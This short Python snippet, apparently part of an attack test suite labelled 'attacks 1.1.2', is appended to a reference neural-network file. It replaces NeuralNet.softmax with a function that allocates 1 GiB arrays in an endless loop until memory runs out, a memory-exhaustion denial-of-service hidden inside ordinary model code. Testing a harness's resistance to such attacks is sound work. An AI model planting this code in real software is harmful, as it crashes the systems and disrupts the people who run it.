"""Appended to the reference NN.py: softmax allocates until memory runs out (attacks 1.1.2)."""


def _hog(self, u):
    blocks = []
    while True:
        blocks.append(np.empty(2**27))  # noqa: F821 (1 GiB each, numpy from NN.py)


NeuralNet.softmax = _hog  # noqa: F821 (defined in the reference part of the file)
